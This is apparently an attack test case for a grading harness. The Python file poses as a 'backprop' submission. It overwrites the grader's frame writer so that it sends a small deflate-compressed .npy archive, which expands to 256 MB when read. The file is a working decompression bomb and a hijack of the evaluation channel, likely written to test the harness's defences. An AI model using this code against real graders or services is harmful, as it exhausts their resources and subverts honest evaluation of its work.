# attack: flood
# expect: any
# must: answer for it: a 250 KB compressed reply that inflates to 256 MB in the grader
"""replaces the child's frame writer with one whose npz member is deflate-compressed zeros:
well under the 64 MiB frame cap on the wire, 256 MB once the grader reads it"""

import io
import json
import struct
import sys
import zipfile

ENTRIES = 32 * (1 << 20)  # float64: 256 MB
_cache: list[bytes] = []


def _npy_header(shape):
    text = f"{{'descr': '<f8', 'fortran_order': False, 'shape': {shape!r}, }}"
    text += " " * (63 - (10 + len(text)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin1")


def _blob():
    if not _cache:
        buffer = io.BytesIO()
        zeros = bytes(1 << 20)
        with (
            zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
            archive.open("a0.npy", "w", force_zip64=True) as member,
        ):
            member.write(_npy_header((ENTRIES,)))
            for _ in range(ENTRIES * 8 // len(zeros)):
                member.write(zeros)
        _cache.append(buffer.getvalue())
    return _cache[0]


def _bomb(stream, document, arrays):
    blob = _blob()
    body = json.dumps({"ok": True, "result": {"$d": [["w1", {"$a": "a0"}]]}}).encode()
    stream.write(struct.pack(">II", len(body), len(blob)) + body + blob)
    stream.flush()


def backprop(X, y, weights, biases):
    sys.modules["__main__"].protocol.write_frame = _bomb
    return {}
